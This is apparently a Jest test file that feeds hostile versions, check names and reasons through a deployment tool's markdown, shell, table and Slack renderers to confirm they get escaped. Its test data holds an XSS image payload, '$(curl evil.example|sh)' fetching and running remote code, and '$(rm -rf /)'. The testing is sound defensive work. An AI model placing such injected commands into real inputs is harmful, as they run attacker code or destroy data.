// Hostile text through every renderer: a version, a check name, a reason and a metric title made
// to break out of markdown, HTML, tables, shell lines and Slack. None of it may come out raw.
import { jest } from '@jest/globals';
import {
  codeBlock,
  inlineCode,
  markdownText,
  shellArg,
  slackText,
  tableCell
} from '../../src/report/escape.js';
import { renderSummary, renderText } from '../../src/report/markdown.js';
import { renderJobSummary } from '../../src/report/job-summary.js';
import { slackMessage } from '../../src/report/alert-messages.js';
import { fixture } from './records.js';

jest.setTimeout(10_000);

const IMG = '<img src=x onerror=alert(1)>';
const VERSION = `1.0\`${IMG}\`$(curl evil.example|sh)`;
const CHECK = `canary | ${IMG} **bold**`;
const REASON = `Helm failed: \`helm upgrade x\` | <!channel> ${IMG} $(rm -rf /)\nsecond line`;

function hostile(decision: 'paused' | 'rolled-back') {
  const record = fixture(decision === 'paused' ? 'paused' : 'rolled-back');
  record.version = VERSION;
  record.previousVersion = VERSION;
  record.reason = REASON;
  for (const s of record.stepRecords) s.reason = REASON;
  for (const m of record.metrics) {
    m.title = `5xx | ${IMG}`;
    m.sentence = REASON;
  }
  return record;
}

/** Text outside code spans and blocks, where markdown and HTML would be live. */
function prose(markdown: string): string {
  return markdown.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '').replace(/(`+)[\s\S]*?\1/g, '');
}

describe('one escaping helper per sink', () => {
  it('markdown text and table cells defuse HTML, markdown and pipes', () => {
    expect(markdownText(IMG)).not.toContain('<');
    expect(markdownText('[x](javascript:alert) ![i](u) `c`')).toBe(
      '\\[x\\](javascript:alert) \\!\\[i\\](u) \\`c\\`'
    );
    expect(tableCell('a | b\nc')).toBe('a \\| b c');
  });

  it('inline code and code blocks cannot be closed from inside', () => {
    expect(inlineCode('a`b')).toBe('``a`b``');
    expect(inlineCode('`x')).toBe('`` `x ``');
    expect(codeBlock('sh', ['echo ```'])).toBe('````sh\necho ```\n````');
  });

  it('a shell argument is one word', () => {
    expect(shellArg('version=1.0')).toBe('version=1.0');
    expect(shellArg("1.0$(curl x|sh) 'q'")).toBe(`'1.0$(curl x|sh) '\\''q'\\'''`);
  });

  it('Slack text cannot mention a channel or make a link', () => {
    expect(slackText('<!channel> <http://x|y> &')).toBe('&lt;!channel&gt; &lt;http://x|y&gt; &amp;');
  });
});

describe('hostile version, check name and reason through every renderer', () => {
  it.each(['paused', 'rolled-back'] as const)('%s: the summary and tick log have nothing raw', (decision) => {
    const record = hostile(decision);
    for (const out of [
      renderSummary(record, { workflowFile: 'release.yml' }),
      renderText(record),
      renderJobSummary(record, { name: CHECK, workflowFile: 'release.yml' })
    ]) {
      const live = prose(out);
      expect(live).not.toContain('<img');
      expect(live).not.toContain('<!channel>');
      expect(live).not.toMatch(/\*\*bold\*\*/);
      // Every table row keeps its column count: no pipe from the text splits a cell.
      for (const row of out.split('\n').filter((l) => l.startsWith('| ') && l.includes(IMG.slice(0, 4)))) {
        expect(row).not.toMatch(/[^\\]\| <img/);
      }
    }
  });

  it('the "How to continue" commands quote the version as one shell word', () => {
    const summary = renderSummary(hostile('paused'), { workflowFile: 'release.yml' });
    const commands = summary.split('\n').filter((l) => l.startsWith('gh workflow run'));
    expect(commands).toHaveLength(3);
    for (const line of commands) {
      expect(line).toContain(`-f ${shellArg(`version=${VERSION}`)}`);
      // The only unquoted words are the safe ones.
      expect(line.replace(` ${shellArg(`version=${VERSION}`)}`, '')).toMatch(/^[\w =./-]+$/);
    }
  });

  it('the job summary heading escapes the check name and the title', () => {
    const heading = renderJobSummary(hostile('rolled-back'), { name: CHECK }).split('\n')[0];
    expect(heading.startsWith('## ')).toBe(true);
    expect(heading).not.toContain('<img');
    expect(heading).toContain('canary \\| &lt;img');
  });

  it('Slack: neither the text nor any block passes <!channel> or HTML', () => {
    const message = slackMessage(hostile('rolled-back'));
    const all = [message.text, JSON.stringify(message.blocks)].join('\n');
    expect(all).not.toContain('<!channel>');
    expect(all).not.toContain('<img');
  });
});
